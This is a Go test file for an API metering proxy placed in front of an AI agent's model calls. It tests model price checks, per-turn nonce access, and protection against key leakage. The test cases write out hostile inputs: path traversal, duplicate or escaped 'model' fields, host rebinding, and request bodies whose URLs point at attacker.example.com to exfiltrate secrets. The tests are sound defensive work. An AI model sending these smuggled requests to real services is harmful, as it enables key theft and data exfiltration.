package meter

import (
	"encoding/json"
	"fmt"
	"net/http"
	"strings"
	"testing"
)

// INV-36: no price, no call, unless the run says so. A name that begins like a known one is unknown.
func TestAModelWithoutAPriceIsRefusedUnlessAcknowledged(t *testing.T) {
	t.Parallel()
	for _, name := range []string{"claude-sonnet-5-turbo", "claude-sonnet", "claude-sonnet-5-2026", "gpt-5", "Claude-Sonnet-5", "claude-sonnet-5 "} {
		var asked int
		up := server(t, func(w http.ResponseWriter, r *http.Request) { asked++; stream(w, sse(evStart, evDelta)) })
		m := start(t, up, nil)
		status, got := post(t, m, "/v1/messages", body(name, 10))
		if status != http.StatusNotFound || asked != 0 || !strings.Contains(got, Mark) || !strings.Contains(got, "no known price") {
			t.Errorf("INV-36 %s: status %d, asked %d, %s", name, status, asked, got)
		}
		if m.Check(name) == nil {
			t.Errorf("INV-36 %s: check finds no fault", name)
		}
		control := start(t, up, func(c *Config) { c.AllowUnpriced = []string{name} })
		if status, _ := post(t, control, "/v1/messages", body(name, 10)); status != 200 || asked != 1 {
			t.Errorf("control %s: status %d, asked %d", name, status, asked)
		}
		if status, got := post(t, control, "/v1/messages", body(name+"-other", 10)); status != http.StatusNotFound || asked != 1 || !strings.Contains(got, "no known price") {
			t.Errorf("INV-36 another model than the acknowledged %s: status %d, asked %d, %s", name, status, asked, got)
		}
		if c := booked(t, control).Calls()[0]; c.Priced != PricedUnpriced || c.Output != 50 || booked(t, control).Spent() != 0 {
			t.Errorf("control %s: %+v", name, c)
		}
		priced := start(t, up, func(c *Config) {
			c.Prices = Embedded().With(Price{Model: name, Rates: Rates{1, 1, 1, 1, 1}, Source: "configuration", Date: "2026-01-01"})
		})
		if status, _ := post(t, priced, "/v1/messages", body(name, 10)); status != 200 {
			t.Errorf("override %s: status %d", name, status)
		}
	}
}

// A name that no price bounds is kept with each call, so its length is bounded. The control is the longest.
func TestTheNameOfAnUnpricedModelIsBounded(t *testing.T) {
	t.Parallel()
	long := strings.Repeat("m", modelNameLimit)
	requests := map[API]func(name string) (path, b string){
		Anthropic: func(name string) (string, string) { return "/v1/messages", body(name, 10) },
		OpenAI: func(name string) (string, string) {
			return "/v1/responses", fmt.Sprintf(`{"model":%q,"input":"x"}`, name)
		},
		Gemini: func(name string) (string, string) { return "/v1beta/models/" + name + ":generateContent", `{}` },
	}
	for api, request := range requests {
		up := server(t, func(w http.ResponseWriter, _ *http.Request) { _, _ = w.Write([]byte("{}")) })
		m := start(t, up, func(c *Config) { c.API, c.AllowUnpriced = api, []string{long, long + "m"} })
		path, b := request(long + "m")
		if status, got := post(t, m, path, b); status != http.StatusBadRequest || len(m.Calls()) != 0 || len(got) > 1000 {
			t.Errorf("%s: status %d, %d calls, %.200s", api, status, len(m.Calls()), got)
		}
		path, b = request(long)
		if status, got := post(t, m, path, b); status != 200 || len(booked(t, m).Calls()) != 1 {
			t.Errorf("control %s: status %d: %.200s", api, status, got)
		}
	}
}

// INV-35, INV-37: a process that knows the agent's nonce spends while the agent is at work and at no other time, and never
// as the reviewer. Each that is refused is let through at its own time, which is the control.
func TestTheMeterServesOnlyWhoseTurnItIs(t *testing.T) {
	t.Parallel()
	asked := 0
	up := server(t, func(w http.ResponseWriter, r *http.Request) {
		asked++
		stream(w, sse(evStart, evDelta, evStop))
	})
	m := start(t, up, nil)
	for _, c := range []struct {
		purpose, nonce string
		want           int
	}{
		{Nobody, m.Endpoint().Nonce, 403}, {Nobody, m.ReviewEndpoint().Nonce, 403},
		{"agent", m.Endpoint().Nonce, 200}, {"agent", m.ReviewEndpoint().Nonce, 403},
		{"review", m.Endpoint().Nonce, 403}, {"review", m.ReviewEndpoint().Nonce, 200},
		{"item_review", m.Endpoint().Nonce, 403}, {"item_review", m.ReviewEndpoint().Nonce, 200},
	} {
		m.SetTick(1, c.purpose)
		before, spent := asked, booked(t, m).Spent()
		status, got := post(t, m, "/v1/messages", body(model, 10), "X-Api-Key", c.nonce)
		served := c.want == 200
		if status != c.want || (asked > before) != served || (booked(t, m).Spent() > spent) != served {
			t.Errorf("%s: status %d, %.200s", c.purpose, status, got)
		}
		if calls := m.Calls(); served && calls[len(calls)-1].Purpose != c.purpose {
			t.Errorf("booked as %+v", calls[len(calls)-1])
		}
	}
}

// INV-37, each with the same request let through by its rightful form.
func TestTheMeterServesOnlyItsNoncePathsAndModels(t *testing.T) {
	t.Parallel()
	var asked []*http.Request
	up := server(t, func(w http.ResponseWriter, r *http.Request) {
		asked = append(asked, r)
		stream(w, sse(evStart, evDelta))
	})
	m := start(t, up, func(c *Config) { c.Models = []string{"claude-sonnet-5", "claude-haiku-4-5-20251001"} })
	ep := m.Endpoint()
	good := body("claude-sonnet-5-20260101", 10)
	for _, c := range []struct {
		name, method, path, body string
		headers                  []string
		host                     string
		want                     int
	}{
		{name: "no key", headers: []string{"X-Api-Key", ""}, want: 401},
		{name: "a wrong key", headers: []string{"X-Api-Key", "proctor-0000"}, want: 401},
		{name: "the real key", headers: []string{"X-Api-Key", testKey}, want: 401},
		{name: "the nonce with something behind it", headers: []string{"X-Api-Key", ep.Nonce + "0"}, want: 401},
		{name: "the nonce under another scheme", headers: []string{"X-Api-Key", "", "Authorization", "Basic " + ep.Nonce}, want: 401},
		{name: "another host", host: "attacker.example.com", want: 403},
		{name: "a rebound name with the right port", host: fmt.Sprintf("attacker.example.com:%d", ep.Port), want: 403},
		{name: "another path", path: "/v1/files", want: 404},
		{name: "a path that climbs", path: "/v1/messages/../files", want: 404},
		{name: "a path in disguise", path: "/v1/messages%2f..%2ffiles", want: 404},
		{name: "batches", path: "/v1/messages/batches", want: 404},
		{name: "another method", method: http.MethodGet, want: 404},
		{name: "a model off the list", body: body("claude-opus-5", 10), want: 404},
		{name: "another release of a dated entry", body: body("claude-haiku-4-5", 10), want: 404},
		{name: "two models", body: `{"model":"claude-sonnet-5","max_tokens":1,"model":"claude-opus-5"}`, want: 400},
		{name: "two models, one escaped", body: `{"model":"claude-sonnet-5","max_tokens":1,"mod\u0065l":"claude-opus-5"}`, want: 400},
		{name: "a model in other letters only", body: `{"Model":"claude-sonnet-5","max_tokens":1}`, want: 400},
		{name: "two models, one in other letters", body: `{"model":"claude-sonnet-5","max_tokens":1,"MODEL":"claude-opus-5"}`, want: 400},
		{name: "further servers", body: `{"model":"claude-sonnet-5","max_tokens":1,"mcp_servers":[{"url":"https://attacker.example.com"}]}`, want: 400},
		{name: "a page to fetch", body: `{"model":"claude-sonnet-5","max_tokens":1,"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://attacker.example.com/?secret"}}]}]}`, want: 400},
		{name: "a page to fetch in a tool's result", body: `{"model":"claude-sonnet-5","max_tokens":1,"messages":[{"role":"user","content":[{"type":"tool_result","content":[{"type":"document","source":{"url":"https://attacker.example.com","type":"\u0075rl"}}]}]}]}`, want: 400},
		{name: "a search at the provider", body: `{"model":"claude-sonnet-5","max_tokens":1,"tools":[{"type":"web_search_20250305","name":"web_search"}]}`, want: 400},
		{name: "a faster, dearer mode", body: `{"model":"claude-sonnet-5","max_tokens":1,"speed":"fast"}`, want: 400},
		{name: "a list", body: `[]`, want: 400},
		{name: "no JSON", body: `{"model":`, want: 400},
		{name: "a compressed request", headers: []string{"Content-Encoding", "gzip"}, want: 415},
	} {
		t.Run("INV-37 "+c.name, func(t *testing.T) {
			before := len(asked)
			method, path, b := c.method, c.path, c.body
			if method == "" {
				method = http.MethodPost
			}
			if path == "" {
				path = "/v1/messages"
			}
			if b == "" {
				b = good
			}
			req, err := http.NewRequestWithContext(t.Context(), method, ep.BaseURL+path, strings.NewReader(b))
			if err != nil {
				t.Fatal(err)
			}
			req.Header.Set("X-Api-Key", ep.Nonce)
			for i := 0; i+1 < len(c.headers); i += 2 {
				req.Header.Set(c.headers[i], c.headers[i+1])
			}
			if c.host != "" {
				req.Host = c.host
			}
			status, got := do(t, req)
			if status != c.want || len(asked) != before {
				t.Errorf("status %d, want %d; upstream asked %d times; %s", status, c.want, len(asked)-before, got)
			}
			var answer struct {
				Type  string
				Error struct{ Type, Message string }
			}
			if err := json.Unmarshal([]byte(got), &answer); err != nil || answer.Type != "error" || answer.Error.Message == "" {
				t.Errorf("not an error that the client shows: %s", got)
			}
		})
	}
	for _, h := range [][]string{{"X-Api-Key", ep.Nonce}, {"X-Api-Key", "", "Authorization", "Bearer " + ep.Nonce}} {
		before := len(asked)
		status, got := post(t, m, "/v1/messages", good, append(h, "Cookie", "c=1", "X-Forwarded-For", "10.0.0.1", "Anthropic-Beta", "a,b")...)
		if status != 200 || len(asked) != before+1 {
			t.Fatalf("control: status %d, %s", status, got)
		}
		r := asked[before]
		if r.Header.Get("X-Api-Key") != testKey || r.Header.Get("Authorization") != "" || r.Header.Get("Cookie") != "" ||
			r.Header.Get("X-Forwarded-For") != "" || r.Header.Get("Anthropic-Beta") != "a,b" || strings.Contains(fmt.Sprint(r.Header), ep.Nonce) {
			t.Errorf("control: headers sent on: %v", r.Header)
		}
	}
}

// INV-37: a redirect is never followed with the key. The control follows it as a plain client would.
func TestARedirectIsNotFollowedWithTheKey(t *testing.T) {
	t.Parallel()
	var leaked string
	thief := server(t, func(w http.ResponseWriter, r *http.Request) { leaked = r.Header.Get("X-Api-Key") })
	for _, code := range []int{301, 302, 303, 307, 308} {
		up := server(t, func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Location", thief.URL+"/v1/messages")
			w.WriteHeader(code)
		})
		m := start(t, up, nil)
		for _, path := range []string{"/v1/messages", "/v1/messages/count_tokens"} {
			status, got := post(t, m, path, body(model, 10))
			if status != http.StatusBadGateway || leaked != "" || strings.Contains(got, thief.URL) {
				t.Errorf("INV-37 %d %s: status %d, leaked %q, %s", code, path, status, leaked, got)
			}
		}
		if booked(t, m).Spent() != 0 {
			t.Errorf("INV-37 %d: a redirect cost %s", code, booked(t, m).Spent())
		}
	}
	up := server(t, func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, thief.URL, http.StatusTemporaryRedirect)
	})
	req, err := http.NewRequestWithContext(t.Context(), http.MethodPost, up.URL, nil)
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("X-Api-Key", testKey)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	_ = resp.Body.Close()
	if leaked != testKey {
		t.Error("control: a plain client did not carry the key along, so the test shows nothing")
	}
}
